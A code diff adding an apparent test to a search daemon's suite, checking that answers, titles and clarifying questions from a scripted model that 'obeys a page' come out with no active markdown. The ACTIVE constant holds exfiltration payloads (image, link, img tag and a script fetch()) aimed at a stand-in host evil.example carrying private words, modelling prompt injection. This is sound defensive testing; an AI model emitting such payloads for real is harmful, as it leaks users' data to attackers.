@@ -18,9 +18,12 @@ from openai import AsyncOpenAI, DefaultAsyncHttpxClient
 
 from askance.config.folders import find_folders
 from askance.stores import open_clients
+from sanitizing.judge import active_in_markdown
 from server.around import ASKANCE, Around, daemons_of, held_pages, over_http
 from server.served import ERAS, Era, text_of, told
-from servers.world import LIGHTHOUSE, QUESTION
+from server.served import told as told_of
+from servers.model_script import plan
+from servers.world import LIGHTHOUSE, QUESTION, SNIPPETS, WHITLOW, some_answer
 from waiting import PATIENCE_S, patience
 
 AFTER = 3
@@ -255,3 +258,65 @@ def asking(era: Era) -> list[dict[str, Any]]:
             "io.modelcontextprotocol/clientCapabilities": {},
         }
     return [call, after]
+
+
+EVIL = "https://evil.example/p?d=PRIVATE+WORDS"
+ACTIVE = f"![x]({EVIL}) [words]({EVIL}) <img src='{EVIL}'><script>fetch('{EVIL}')</script> {EVIL}"
+
+
+async def test_a_model_that_obeys_a_page_gets_nothing_active_out_of_the_daemon(around: Around):
+    """It writes pictures, tags and links into whatever it is asked for, as a page has told it."""
+    around.allow("default")
+    around.allow("tester")
+    script = around.script
+    titled = json.dumps({"title": ACTIVE})
+    title = (
+        '### Task:\nWrite a title of 3-5 words for the chat.\n### Output:\nJSON: {"title": "a title"}\n'
+        f"### Chat History:\n<chat_history>\nUSER: {QUESTION}\nASSISTANT: So.\n</chat_history>"
+    )
+
+    def said(prompt: str) -> str:
+        return (
+            titled if "Write a title" in prompt else f"{some_answer(prompt)} {ACTIVE}\n\n{ACTIVE}"
+        )
+
+    script.answer = [said]
+    clarifying = plan(action="clarify", clarifying_question=f"Which one? {ACTIVE}")
+    told: list[str] = []
+    async with (
+        over_http(around) as (url, token),
+        AsyncOpenAI(
+            base_url=f"{url}/v1",
+            api_key=token,
+            http_client=DefaultAsyncHttpxClient(trust_env=False),
+        ) as web,
+        http_client(url, token, "auto") as client,
+    ):
+
+        async def ask(content: str) -> None:
+            messages: Any = [{"role": "user", "content": content}]
+            whole = await web.chat.completions.create(model="askance", messages=messages)
+            told.append(whole.choices[0].message.content or "")
+            stream = await web.chat.completions.create(
+                model="askance", messages=messages, stream=True
+            )
+            parts = [c.choices[0].delta.content or "" async for c in stream if c.choices]
+            told.append("".join(parts))
+
+        # First what is asked back: the library would know an answer later.
+        knowing, script.plan = script.plan, [clarifying]
+        await ask("When was the lighthouse built?")
+        asked = await client.call_tool("search_web", {"question": "When was the lighthouse built?"})
+        told += [text_of(asked), told_of(asked)["clarifying_question"]]
+        script.plan = knowing
+        await ask(QUESTION)
+        result = await client.call_tool("search_web", {"question": QUESTION})
+        told += [text_of(result), told_of(result)["answer"]]
+        await ask(title)
+    titles = [json.loads(told.pop()) for _ in range(2)]
+    assert [set(record) for record in titles] == [{"title"}] * 2
+    told += [record["title"] for record in titles]
+    own = {LIGHTHOUSE, WHITLOW, *SNIPPETS}
+    for text in told:
+        assert active_in_markdown(text, own) == [], text
+        assert "words" in text
